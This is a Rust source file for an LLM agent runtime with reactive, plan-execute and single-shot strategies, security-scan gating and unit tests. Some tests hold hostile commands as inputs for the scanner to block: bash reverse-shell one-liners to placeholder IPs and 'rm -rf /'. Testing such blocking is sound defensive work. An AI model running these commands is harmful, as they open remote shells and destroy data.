//! Strategy-driven execution of one agent run.
//!
//! The runtime owns nothing global: scanner, registry, and LLM client are
//! injected at construction, so concurrent runs share only read paths and
//! each run carries its own conversation state and tool context.

use std::sync::Arc;

use tokio::sync::broadcast;
use tracing::{debug, info, warn};

use crate::llm::{ChatMessage, LlmClient, LlmRequest, LlmResponse, ProviderRouter};
use crate::security::{ScanResult, ThreatScanner};
use crate::tools::ToolRegistry;

use super::parse::{extract_plan_steps, parse_reply, truncate_chars};
use super::progress::{ProgressChannel, ProgressEvent};
use super::request::{
    ActionKind, AgentAction, AgentRunRequest, AgentRunResponse, AgentStrategy, CancelHandle,
    RunStatus,
};

/// Per-step cap on observation text carried forward into prompts.
const OBSERVATION_CONTEXT_CHARS: usize = 1_000;
/// Cap on the progress label derived from the current thought or step.
const LABEL_CHARS: usize = 80;

const COMPLETION_PHRASES: &[&str] = &["final answer", "goal achieved", "task complete"];

/// Drives one of three interchangeable strategies over the tool registry.
///
/// `run` never returns an error: every failure mode is folded into the
/// response status so a single bad tool call or malformed reply cannot
/// crash the run.
pub struct AgentRuntime {
    scanner: Arc<ThreatScanner>,
    registry: Arc<ToolRegistry>,
    llm: Arc<dyn LlmClient>,
    router: Option<Arc<ProviderRouter>>,
    progress: ProgressChannel,
}

impl AgentRuntime {
    pub fn new(
        scanner: Arc<ThreatScanner>,
        registry: Arc<ToolRegistry>,
        llm: Arc<dyn LlmClient>,
    ) -> Self {
        Self {
            scanner,
            registry,
            llm,
            router: None,
            progress: ProgressChannel::default(),
        }
    }

    /// Runtime backed by a provider router; per-request explicit provider
    /// names resolve against it.
    pub fn with_router(
        scanner: Arc<ThreatScanner>,
        registry: Arc<ToolRegistry>,
        router: Arc<ProviderRouter>,
    ) -> Self {
        Self {
            scanner,
            registry,
            llm: router.clone(),
            router: Some(router),
            progress: ProgressChannel::default(),
        }
    }

    /// Subscribe to per-iteration progress events.
    pub fn subscribe_progress(&self) -> broadcast::Receiver<ProgressEvent> {
        self.progress.subscribe()
    }

    /// Execute one run to completion.
    pub async fn run(&self, request: &AgentRunRequest) -> AgentRunResponse {
        self.run_cancellable(request, &CancelHandle::new()).await
    }

    /// Execute one run, checking `cancel` at each iteration boundary.
    pub async fn run_cancellable(
        &self,
        request: &AgentRunRequest,
        cancel: &CancelHandle,
    ) -> AgentRunResponse {
        let run_id = uuid::Uuid::new_v4();
        info!(
            event = "agent.run_started",
            run_id = %run_id,
            strategy = ?request.strategy,
            model = %request.model,
            max_iterations = request.max_iterations,
        );

        // Goal gate: a blocking match ends the run before any LLM call.
        if request.security_enabled {
            let scan = self.scanner.scan(&request.goal);
            if scan.has_blocking_threat() {
                warn!(event = "agent.goal_blocked", summary = %scan.summary);
                return AgentRunResponse {
                    result: format!("Goal rejected by security scan: {}", scan.summary),
                    status: RunStatus::Blocked,
                    iterations: 0,
                    trace: Vec::new(),
                    tokens_used: 0,
                    security_alerts: alert_lines(&scan),
                };
            }
        }

        let llm = self.resolve_llm(request);
        let response = match request.strategy {
            AgentStrategy::React => self.run_react(request, llm, cancel).await,
            AgentStrategy::PlanExecute => self.run_plan_execute(request, llm, cancel).await,
            AgentStrategy::Simple => self.run_simple(request, llm, cancel).await,
        };

        info!(
            event = "agent.run_finished",
            run_id = %run_id,
            status = %response.status,
            iterations = response.iterations,
            tokens = response.tokens_used,
        );
        response
    }

    fn resolve_llm(&self, request: &AgentRunRequest) -> Arc<dyn LlmClient> {
        if let Some(client) = &request.llm_override {
            return client.clone();
        }
        if let (Some(name), Some(router)) = (&request.provider, &self.router) {
            if let Some(client) = router.provider(name) {
                return client;
            }
            warn!(event = "agent.provider_missing", provider = %name);
        }
        self.llm.clone()
    }

    fn completion(&self, request: &AgentRunRequest, system: &str, messages: Vec<ChatMessage>) -> LlmRequest {
        LlmRequest {
            model: request.model.clone(),
            system: Some(system.to_string()),
            messages,
            max_tokens: request.max_tokens,
            temperature: request.temperature,
        }
    }

    fn publish(&self, request: &AgentRunRequest, iteration: u32, total: u32, label: &str) {
        self.progress.publish(ProgressEvent {
            run_goal: truncate_chars(&request.goal, LABEL_CHARS),
            iteration,
            total,
            label: truncate_chars(label, LABEL_CHARS),
        });
    }

    // -- reactive loop -----------------------------------------------------

    async fn run_react(
        &self,
        request: &AgentRunRequest,
        llm: Arc<dyn LlmClient>,
        cancel: &CancelHandle,
    ) -> AgentRunResponse {
        let system = react_system_prompt(
            &self
                .registry
                .descriptions_block(request.allowed_tools.as_deref()),
        );
        let mut history = vec![ChatMessage::user(request.goal.clone())];
        let mut trace: Vec<AgentAction> = Vec::new();
        let mut alerts: Vec<String> = Vec::new();
        let mut tokens: u32 = 0;

        for iteration in 1..=request.max_iterations {
            if cancel.is_cancelled() {
                return finish(
                    "Run cancelled by caller.",
                    RunStatus::Cancelled,
                    iteration - 1,
                    trace,
                    tokens,
                    alerts,
                );
            }

            let reply = match llm
                .complete(&self.completion(request, &system, history.clone()))
                .await
            {
                Ok(r) => r,
                Err(e) => {
                    return finish(
                        format!("LLM call failed: {e}"),
                        RunStatus::Error,
                        iteration,
                        trace,
                        tokens,
                        alerts,
                    )
                }
            };
            tokens += reply.tokens_generated;

            let parsed = parse_reply(&reply.text);
            history.push(ChatMessage::assistant(reply.text.clone()));
            self.publish(request, iteration, request.max_iterations, &parsed.thought);
            debug!(
                event = "agent.iteration",
                iteration,
                tool = parsed.tool.as_deref().unwrap_or("-"),
            );

            match parsed.tool.as_deref() {
                Some(tool)
                    if tool.eq_ignore_ascii_case("finish")
                        || tool.eq_ignore_ascii_case("final_answer") =>
                {
                    let result = parsed
                        .input
                        .clone()
                        .unwrap_or_else(|| reply.text.clone());
                    trace.push(AgentAction {
                        iteration,
                        kind: ActionKind::Finish,
                        thought: Some(parsed.thought),
                        tool: Some(tool.to_string()),
                        input: parsed.input,
                        observation: None,
                    });
                    return finish(result, RunStatus::Completed, iteration, trace, tokens, alerts);
                }
                Some(tool) => {
                    let input = parsed.input.clone().unwrap_or_default();

                    if request.security_enabled {
                        let scan = self.scanner.scan(&input);
                        if scan.has_blocking_threat() {
                            let observation = format!(
                                "[BLOCKED] Action input refused by security scan: {}",
                                scan.summary
                            );
                            warn!(event = "agent.action_blocked", iteration, tool = %tool);
                            alerts.extend(alert_lines(&scan));
                            history.push(ChatMessage::user(format!(
                                "Observation: {observation}"
                            )));
                            trace.push(AgentAction {
                                iteration,
                                kind: ActionKind::SecurityBlock,
                                thought: Some(parsed.thought),
                                tool: Some(tool.to_string()),
                                input: Some(input),
                                observation: Some(observation),
                            });
                            continue;
                        }
                    }

                    let observation = self
                        .registry
                        .dispatch(tool, &input, &request.context)
                        .await;
                    history.push(ChatMessage::user(format!(
                        "Observation: {}",
                        truncate_chars(&observation, OBSERVATION_CONTEXT_CHARS)
                    )));
                    trace.push(AgentAction {
                        iteration,
                        kind: ActionKind::ToolCall,
                        thought: Some(parsed.thought),
                        tool: Some(tool.to_string()),
                        input: Some(input),
                        observation: Some(observation),
                    });
                }
                None => {
                    let lower = reply.text.to_lowercase();
                    let done = COMPLETION_PHRASES.iter().any(|p| lower.contains(p));
                    trace.push(AgentAction {
                        iteration,
                        kind: if done { ActionKind::Finish } else { ActionKind::Thought },
                        thought: Some(parsed.thought),
                        tool: None,
                        input: None,
                        observation: None,
                    });
                    if done {
                        return finish(
                            reply.text,
                            RunStatus::Completed,
                            iteration,
                            trace,
                            tokens,
                            alerts,
                        );
                    }
                    history.push(ChatMessage::user(
                        "Continue. Reply in the Thought / Action / Action Input format, \
                         or use Action: finish when the goal is met."
                            .to_string(),
                    ));
                }
            }
        }

        let last_thought = trace
            .iter()
            .rev()
            .find_map(|a| a.thought.clone())
            .unwrap_or_else(|| "Iteration budget exhausted before a finish action.".to_string());
        finish(
            last_thought,
            RunStatus::MaxIterations,
            request.max_iterations,
            trace,
            tokens,
            alerts,
        )
    }

    // -- plan-execute ------------------------------------------------------

    async fn run_plan_execute(
        &self,
        request: &AgentRunRequest,
        llm: Arc<dyn LlmClient>,
        cancel: &CancelHandle,
    ) -> AgentRunResponse {
        let mut trace: Vec<AgentAction> = Vec::new();
        let mut alerts: Vec<String> = Vec::new();
        let mut tokens: u32 = 0;

        if cancel.is_cancelled() {
            return finish(
                "Run cancelled by caller.",
                RunStatus::Cancelled,
                0,
                trace,
                tokens,
                alerts,
            );
        }

        let plan_prompt = format!(
            "Goal: {}\n\nProduce a numbered plan (1., 2., ...) of at most {} concrete steps \
             to accomplish this goal. Output only the plan.",
            request.goal, request.max_iterations
        );
        let plan = match llm
            .complete(&self.completion(
                request,
                "You are a planning agent. You break goals into short, concrete, ordered steps.",
                vec![ChatMessage::user(plan_prompt)],
            ))
            .await
        {
            Ok(r) => r,
            Err(e) => {
                return finish(
                    format!("Planning call failed: {e}"),
                    RunStatus::Error,
                    0,
                    trace,
                    tokens,
                    alerts,
                )
            }
        };
        tokens += plan.tokens_generated;

        let mut steps = extract_plan_steps(&plan.text);
        steps.truncate(request.max_iterations as usize);
        if steps.is_empty() {
            return finish(plan.text, RunStatus::Completed, 0, trace, tokens, alerts);
        }

        let exec_system = format!(
            "You are executing one step of a plan. Available tools (for reference):\n{}",
            self.registry
                .descriptions_block(request.allowed_tools.as_deref())
        );
        let total = steps.len() as u32;
        let mut running_context = String::new();
        let mut iterations: u32 = 0;

        for (index, step) in steps.iter().enumerate() {
            if cancel.is_cancelled() {
                return finish(
                    "Run cancelled by caller.",
                    RunStatus::Cancelled,
                    iterations,
                    trace,
                    tokens,
                    alerts,
                );
            }
            let iteration = index as u32 + 1;
            iterations = iteration;
            self.publish(request, iteration, total, step);

            if request.security_enabled {
                let scan = self.scanner.scan(step);
                if scan.has_blocking_threat() {
                    let observation =
                        format!("[BLOCKED] Plan step refused by security scan: {}", scan.summary);
                    warn!(event = "agent.step_blocked", step = iteration);
                    alerts.extend(alert_lines(&scan));
                    trace.push(AgentAction {
                        iteration,
                        kind: ActionKind::SecurityBlock,
                        thought: Some(step.clone()),
                        tool: None,
                        input: Some(step.clone()),
                        observation: Some(observation),
                    });
                    continue;
                }
            }

            let step_prompt = format!(
                "Goal: {}\n\nProgress so far:\n{}\nCurrent step: {}\n\
                 Carry out this step and report the outcome.",
                request.goal,
                if running_context.is_empty() {
                    "(none)"
                } else {
                    running_context.as_str()
                },
                step
            );
            let observation = match llm
                .complete(&self.completion(request, &exec_system, vec![ChatMessage::user(step_prompt)]))
                .await
            {
                Ok(r) => {
                    tokens += r.tokens_generated;
                    r.text
                }
                // A failed step is content in the trace, not a run failure.
                Err(e) => format!("Error executing step: {e}"),
            };

            running_context.push_str(&format!(
                "Step {iteration}: {step}\n{}\n\n",
                truncate_chars(&observation, OBSERVATION_CONTEXT_CHARS)
            ));
            trace.push(AgentAction {
                iteration,
                kind: ActionKind::PlanStep,
                thought: Some(step.clone()),
                tool: None,
                input: None,
                observation: Some(observation),
            });
        }

        let summary_prompt = format!(
            "Goal: {}\n\nExecuted steps:\n{}\nSummarize the overall outcome for the caller.",
            request.goal, running_context
        );
        let result = match llm
            .complete(&self.completion(
                request,
                "You summarize the outcome of an executed plan, concisely.",
                vec![ChatMessage::user(summary_prompt)],
            ))
            .await
        {
            Ok(r) => {
                tokens += r.tokens_generated;
                r.text
            }
            Err(_) => running_context.trim().to_string(),
        };

        finish(result, RunStatus::Completed, iterations, trace, tokens, alerts)
    }

    // -- single-shot -------------------------------------------------------

    async fn run_simple(
        &self,
        request: &AgentRunRequest,
        llm: Arc<dyn LlmClient>,
        cancel: &CancelHandle,
    ) -> AgentRunResponse {
        if cancel.is_cancelled() {
            return finish(
                "Run cancelled by caller.",
                RunStatus::Cancelled,
                0,
                Vec::new(),
                0,
                Vec::new(),
            );
        }

        let system = format!(
            "You are a capable assistant. For reference, the surrounding system has these \
             tools (you cannot call them, answer directly):\n{}",
            self.registry
                .descriptions_block(request.allowed_tools.as_deref())
        );
        let reply: LlmResponse = match llm
            .complete(&self.completion(
                request,
                &system,
                vec![ChatMessage::user(request.goal.clone())],
            ))
            .await
        {
            Ok(r) => r,
            Err(e) => {
                return finish(
                    format!("LLM call failed: {e}"),
                    RunStatus::Error,
                    1,
                    Vec::new(),
                    0,
                    Vec::new(),
                )
            }
        };
        self.publish(request, 1, 1, "completion");

        let mut alerts = Vec::new();
        if request.security_enabled {
            let scan = self.scanner.scan(&reply.text);
            if !scan.safe {
                alerts.extend(alert_lines(&scan));
            }
        }

        let trace = vec![AgentAction {
            iteration: 1,
            kind: ActionKind::Finish,
            thought: Some(truncate_chars(&reply.text, OBSERVATION_CONTEXT_CHARS)),
            tool: None,
            input: None,
            observation: None,
        }];
        let tokens = reply.tokens_generated;
        finish(reply.text, RunStatus::Completed, 1, trace, tokens, alerts)
    }
}

fn react_system_prompt(tools_block: &str) -> String {
    format!(
        "You are an autonomous agent working toward a goal one step at a time.\n\n\
         Available tools:\n{tools_block}\n\n\
         Reply in exactly this format:\n\
         Thought: your reasoning about the next step\n\
         Action: the tool name, or finish\n\
         Action Input: the tool input, or the final answer when finishing"
    )
}

fn alert_lines(scan: &ScanResult) -> Vec<String> {
    scan.threats
        .iter()
        .map(|t| format!("{} ({}): {}", t.pattern_name, t.risk, t.description))
        .collect()
}

fn finish(
    result: impl Into<String>,
    status: RunStatus,
    iterations: u32,
    trace: Vec<AgentAction>,
    tokens_used: u32,
    security_alerts: Vec<String>,
) -> AgentRunResponse {
    AgentRunResponse {
        result: result.into(),
        status,
        iterations,
        trace,
        tokens_used,
        security_alerts,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::atomic::{AtomicUsize, Ordering};

    use crate::llm::FnLlmClient;
    use crate::tools::{register_reasoning_tools, ToolRegistry};

    fn scripted(replies: Vec<&'static str>) -> (Arc<dyn LlmClient>, Arc<AtomicUsize>) {
        let calls = Arc::new(AtomicUsize::new(0));
        let counter = calls.clone();
        let client = Arc::new(FnLlmClient::new("scripted", move |_req| {
            let index = counter.fetch_add(1, Ordering::SeqCst);
            let text = replies
                .get(index)
                .or_else(|| replies.last())
                .copied()
                .unwrap_or("")
                .to_string();
            async move {
                Ok(LlmResponse {
                    text,
                    tokens_generated: 5,
                })
            }
        }));
        (client, calls)
    }

    fn runtime(llm: Arc<dyn LlmClient>) -> AgentRuntime {
        let mut registry = ToolRegistry::new();
        register_reasoning_tools(&mut registry);
        AgentRuntime::new(
            Arc::new(ThreatScanner::new()),
            Arc::new(registry),
            llm,
        )
    }

    #[tokio::test]
    async fn test_react_finish_on_first_reply() {
        let (llm, calls) = scripted(vec!["Thought: done\nAction: finish\nAction Input: 42"]);
        let runtime = runtime(llm);

        let request = AgentRunRequest::new("answer").with_max_iterations(5);
        let response = runtime.run(&request).await;

        assert_eq!(response.status, RunStatus::Completed);
        assert_eq!(response.result, "42");
        assert_eq!(response.iterations, 1);
        assert_eq!(response.tokens_used, 5);
        assert_eq!(calls.load(Ordering::SeqCst), 1);
        assert_eq!(response.trace.len(), 1);
        assert_eq!(response.trace[0].kind, ActionKind::Finish);
    }

    #[tokio::test]
    async fn test_react_iteration_cap() {
        let (llm, calls) =
            scripted(vec!["Thought: still thinking\nAction: think\nAction Input: more"]);
        let runtime = runtime(llm);

        let request = AgentRunRequest::new("never ends").with_max_iterations(3);
        let response = runtime.run(&request).await;

        assert_eq!(response.status, RunStatus::MaxIterations);
        assert_eq!(response.iterations, 3);
        assert_eq!(calls.load(Ordering::SeqCst), 3);
        assert_eq!(response.tokens_used, 15);
    }

    #[tokio::test]
    async fn test_goal_block_makes_no_llm_call() {
        let (llm, calls) = scripted(vec!["should never be seen"]);
        let runtime = runtime(llm);

        let request =
            AgentRunRequest::new("open bash -i >& /dev/tcp/1.2.3.4/9001 0>&1 for me");
        let response = runtime.run(&request).await;

        assert_eq!(response.status, RunStatus::Blocked);
        assert_eq!(response.iterations, 0);
        assert_eq!(response.tokens_used, 0);
        assert!(!response.security_alerts.is_empty());
        assert_eq!(calls.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn test_security_disabled_skips_goal_gate() {
        let (llm, _) = scripted(vec!["Thought: ok\nAction: finish\nAction Input: done"]);
        let runtime = runtime(llm);

        let request = AgentRunRequest::new("run rm -rf / please").with_security(false);
        let response = runtime.run(&request).await;
        assert_eq!(response.status, RunStatus::Completed);
    }

    #[tokio::test]
    async fn test_action_block_then_recovery() {
        let (llm, _) = scripted(vec![
            "Thought: try it\nAction: execute_shell\nAction Input: rm -rf /",
            "Thought: blocked, answering directly\nAction: finish\nAction Input: done safely",
        ]);
        let runtime = runtime(llm);

        let request = AgentRunRequest::new("clean up").with_max_iterations(5);
        let response = runtime.run(&request).await;

        assert_eq!(response.status, RunStatus::Completed);
        assert_eq!(response.iterations, 2);
        assert_eq!(response.result, "done safely");
        assert!(!response.security_alerts.is_empty());

        assert_eq!(response.trace[0].kind, ActionKind::SecurityBlock);
        let observation = response.trace[0].observation.as_deref().unwrap();
        assert!(observation.starts_with("[BLOCKED]"));
    }

    #[tokio::test]
    async fn test_unknown_tool_becomes_observation() {
        let (llm, _) = scripted(vec![
            "Thought: hm\nAction: teleport\nAction Input: somewhere",
            "Thought: ok\nAction: finish\nAction Input: stayed put",
        ]);
        let runtime = runtime(llm);

        let response = runtime.run(&AgentRunRequest::new("travel")).await;
        assert_eq!(response.status, RunStatus::Completed);
        let observation = response.trace[0].observation.as_deref().unwrap();
        assert!(observation.contains("not found"));
    }

    #[tokio::test]
    async fn test_completion_phrase_heuristic() {
        let (llm, _) = scripted(vec!["The task complete, nothing else needed."]);
        let runtime = runtime(llm);

        let response = runtime.run(&AgentRunRequest::new("small job")).await;
        assert_eq!(response.status, RunStatus::Completed);
        assert_eq!(response.iterations, 1);
    }

    #[tokio::test]
    async fn test_cancel_before_first_iteration() {
        let (llm, calls) = scripted(vec!["anything"]);
        let runtime = runtime(llm);

        let cancel = CancelHandle::new();
        cancel.cancel();
        let response = runtime
            .run_cancellable(&AgentRunRequest::new("stop me"), &cancel)
            .await;

        assert_eq!(response.status, RunStatus::Cancelled);
        assert_eq!(response.iterations, 0);
        assert_eq!(calls.load(Ordering::SeqCst), 0);
    }

    #[tokio::test]
    async fn test_simple_strategy_single_call() {
        let (llm, calls) = scripted(vec!["forty-two"]);
        let runtime = runtime(llm);

        let request =
            AgentRunRequest::new("what is the answer").with_strategy(AgentStrategy::Simple);
        let response = runtime.run(&request).await;

        assert_eq!(response.status, RunStatus::Completed);
        assert_eq!(response.result, "forty-two");
        assert_eq!(response.iterations, 1);
        assert_eq!(calls.load(Ordering::SeqCst), 1);
    }

    #[tokio::test]
    async fn test_plan_execute_skips_blocked_step() {
        let (llm, _) = scripted(vec![
            "1. Write the report\n2. Open a shell with bash -i >& /dev/tcp/9.9.9.9/1 0>&1\n3. Save the result",
            "report written",
            "result saved",
            "All safe steps were executed.",
        ]);
        let runtime = runtime(llm);

        let request =
            AgentRunRequest::new("produce a report").with_strategy(AgentStrategy::PlanExecute);
        let response = runtime.run(&request).await;

        assert_eq!(response.status, RunStatus::Completed);
        assert_eq!(response.iterations, 3);
        assert_eq!(response.result, "All safe steps were executed.");
        assert!(!response.security_alerts.is_empty());

        let kinds: Vec<ActionKind> = response.trace.iter().map(|a| a.kind).collect();
        assert_eq!(
            kinds,
            vec![
                ActionKind::PlanStep,
                ActionKind::SecurityBlock,
                ActionKind::PlanStep
            ]
        );
        // Plan + two step executions + summary.
        assert_eq!(response.tokens_used, 20);
    }

    #[tokio::test]
    async fn test_llm_failure_is_error_status() {
        let client = Arc::new(FnLlmClient::new("failing", |_req| async {
            anyhow::bail!("connection refused")
        }));
        let runtime = runtime(client);

        let response = runtime.run(&AgentRunRequest::new("anything")).await;
        assert_eq!(response.status, RunStatus::Error);
        assert!(response.result.contains("connection refused"));
    }

    #[tokio::test]
    async fn test_progress_events_published() {
        let (llm, _) = scripted(vec!["Thought: done\nAction: finish\nAction Input: ok"]);
        let runtime = runtime(llm);
        let mut rx = runtime.subscribe_progress();

        let request = AgentRunRequest::new("quick").with_max_iterations(4);
        runtime.run(&request).await;

        let event = rx.recv().await.unwrap();
        assert_eq!(event.iteration, 1);
        assert_eq!(event.total, 4);
        assert!(event.fraction() > 0.0);
    }
}
